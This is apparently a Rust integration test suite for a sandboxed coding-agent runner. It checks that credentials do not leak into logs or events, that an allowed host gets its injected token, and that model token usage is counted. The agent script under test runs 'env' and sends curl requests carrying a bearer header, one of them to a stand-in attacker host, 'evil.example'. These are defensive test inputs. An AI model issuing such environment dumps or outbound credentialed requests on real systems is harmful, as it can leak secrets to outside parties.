//! The program with the real runner in a real sandbox: an agent's clients go out, and nothing that anybody hears has a secret.

use crate::restart::{is_over, is_ready, sandbox_of, turn};
use crate::support::code_host::{CodeHost, TOKEN};
use crate::support::edge::FakeEdge;
use crate::support::origin::{Origin, TestAuthority};
use crate::support::program::{Program, runner};
use crate::support::{BRIDGE_SECRET, soon};
use axum::Router;
use axum::extract::Request;
use axum::response::IntoResponse;
use axum::routing::any;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use protocol::bridge::{CommandRequest, CreateSandboxRequest, TerminateRequest};
use protocol::runner::AgentKind;
use serde_json::{Value, json};

const SECRET: &str = "canary-npm-token";
const MODEL_KEY: &str = "canary-model-key";

#[tokio::test]
async fn at_its_most_talkative_the_bridge_says_no_secret_to_anybody() {
    let Some(runner) = runner() else { return };
    let (edge, host, authority) = (FakeEdge::start().await, CodeHost::start().await, TestAuthority::new());
    let echo = async |request: Request| format!("heard {:?}\n", request.headers().get("authorization"));
    let origin = Origin::tls(&authority, &["localhost"], Router::new().fallback(any(echo))).await;
    let mut program = Program::new(runner, &edge, &host, "whole");
    let (log, extra) = (program.state.path().join("log"), program.state.path().join("extra.pem"));
    std::fs::write(&extra, authority.pem()).unwrap();
    let target = format!("localhost:{}", origin.port);
    program.log = Some(log.clone());
    // The agent of this test is to have curl.
    let flags = ["--private-host", &target, "--extra-ca", extra.to_str().unwrap(), "--block-command", ""];
    program.arguments = flags.map(str::to_owned).into();
    let policy =
        json!({ "acme/shop": { "secrets": { "NPM_TOKEN": { "host": target, "value_env": "SHOP_NPM" } } } });
    let model =
        json!({ "demo": { "base_url": "http://127.0.0.1:1/v1", "api_key": MODEL_KEY, "kind": "openai" } });
    program.variables = [
        ("FARHAND_REPOSITORY_POLICY", policy.to_string()),
        ("FARHAND_MODEL_PROVIDERS", model.to_string()),
        ("SHOP_NPM", SECRET.to_owned()),
    ]
    .map(|(name, value)| (name.to_owned(), value))
    .into();
    program.start().await;
    let sandbox = format!("/sandboxes/{}", program.sandbox_id);
    program.put::<Value>(&sandbox, &sandbox_of(&host, 1)).await;
    edge.until("ready", is_ready).await;
    let script = format!(
        "run env; curl -sv --noproxy nothing -H \"Authorization: Bearer $NPM_TOKEN\" https://{target}/\n\
         run curl -sS https://evil.example/ -H 'Authorization: Bearer own'; true\n\
         run git remote -v; git fetch --quiet origin 2>&1; git fetch {}/acme/lib.git 2>&1; true\n\
         write a.txt a",
        host.url
    );
    let command = CommandRequest { generation: 1, command: turn("1", &script) };
    program.put::<Value>(&format!("{sandbox}/commands/cmd_1"), &command).await;
    edge.until("the end of the turn", is_over).await;
    let denied = |session: &crate::support::edge::Session| !session.egress.is_empty();
    let weak = edge.read(|session| !serde_json::to_string(&session.stored).unwrap().contains("HTTPS_PROXY"));
    if weak {
        println!("skipped in part: without namespaces a sandbox has no proxy");
    } else {
        edge.until("a refusal", denied).await;
        let seen = soon("the origin", async { origin.seen() }).await;
        assert_eq!(seen[0].headers["authorization"], format!("Bearer {SECRET}").as_str());
    }
    program
        .put::<Value>(&format!("{sandbox}/terminated"), &TerminateRequest { generation: 1, session_id: None })
        .await;
    program.kill().await;

    let said = edge.read(|session| {
        let reports: Vec<_> = session.egress.iter().map(|(_, report)| report).collect();
        serde_json::to_string(&(&session.stored, &session.ended, reports)).unwrap()
    });
    assert!(weak || said.contains("heard Some") && said.contains("farhand_secret_"), "{said}");
    // git shows the first words of what the gateway says; the agent's own address was rewritten to it.
    assert!(said.contains("this session works on acme/shop"), "{said}");
    let log = std::fs::read_to_string(log).unwrap();
    assert!(log.contains("TRACE") && log.contains("DEBUG"), "the log says little");
    let basic = STANDARD.encode(format!("x-access-token:{TOKEN}"));
    for canary in [SECRET, MODEL_KEY, TOKEN, BRIDGE_SECRET, basic.as_str()] {
        assert!(!said.contains(canary), "an event has {canary}");
        assert!(!log.contains(canary), "the log has {canary}");
    }
}

/// Streams one answer as OpenAI's Chat API does, with its usage only when asked for it.
async fn chat(request: Request) -> impl IntoResponse {
    let body = axum::body::to_bytes(request.into_body(), usize::MAX).await.unwrap();
    let asked: Value = serde_json::from_slice(&body).unwrap();
    let chunk = |choices: Value, usage: Value| {
        let chunk = json!({ "id": "1", "object": "chat.completion.chunk", "created": 1, "model": "demo", "choices": choices, "usage": usage });
        format!("data: {chunk}\n\n")
    };
    let choice =
        |delta: Value, reason: Value| json!([{ "index": 0, "delta": delta, "finish_reason": reason }]);
    let mut said = chunk(
        choice(json!({ "role": "assistant", "content": "Hello from the model." }), Value::Null),
        Value::Null,
    );
    said += &chunk(choice(json!({}), json!("stop")), Value::Null);
    if asked["stream_options"]["include_usage"] == true {
        said += &chunk(
            json!([]),
            json!({ "prompt_tokens": 1234, "completion_tokens": 56, "total_tokens": 1290 }),
        );
    }
    ([("content-type", "text/event-stream")], said + "data: [DONE]\n\n")
}

#[tokio::test]
async fn opencode_works_through_the_gateway_and_its_tokens_are_counted() {
    let Some(runner) = runner() else { return };
    let Some(opencode) = std::env::var_os("TEST_OPENCODE") else {
        println!("skipped: name OpenCode's binary in TEST_OPENCODE");
        return;
    };
    let (edge, host) = (FakeEdge::start().await, CodeHost::start().await);
    let model = Origin::plain(Router::new().route("/v1/chat/completions", any(chat))).await;
    let mut program = Program::new(runner, &edge, &host, "model");
    program.log = Some(program.state.path().join("log"));
    program.arguments =
        ["--opencode", opencode.to_str().unwrap(), "--sandbox-budget", "1000000"].map(str::to_owned).into();
    let base = format!("http://127.0.0.1:{}/v1", model.port);
    let prices = json!({ "demo": { "input": 1_000_000, "output": 1_000_000 } });
    let models =
        json!({ "demo": { "base_url": base, "api_key": MODEL_KEY, "kind": "openai", "prices": prices } });
    program.variables = vec![("FARHAND_MODEL_PROVIDERS".to_owned(), models.to_string())];
    program.start().await;
    let sandbox = format!("/sandboxes/{}", program.sandbox_id);
    let order = CreateSandboxRequest { agent: AgentKind::Opencode, ..sandbox_of(&host, 1) };
    program.put::<Value>(&sandbox, &order).await;
    edge.until("ready", is_ready).await;
    let command = CommandRequest { generation: 1, command: turn("1", "Say hello.") };
    program.put::<Value>(&format!("{sandbox}/commands/cmd_1"), &command).await;
    edge.until("the end of the turn", is_over).await;
    program
        .put::<Value>(&format!("{sandbox}/terminated"), &TerminateRequest { generation: 1, session_id: None })
        .await;
    let log = std::fs::read_to_string(program.log.as_ref().unwrap()).unwrap();
    program.kill().await;
    let said = edge.read(|session| serde_json::to_string(&session.stored).unwrap());
    assert!(said.contains("Hello from the model.") && said.contains("completed"), "{said}");
    assert!(!said.contains(MODEL_KEY));
    let call = log.lines().find(|line| line.contains("model call")).unwrap();
    assert!(
        call.contains("input=1234") && call.contains("output=56") && call.contains("is_estimated=false"),
        "{call}"
    );
}
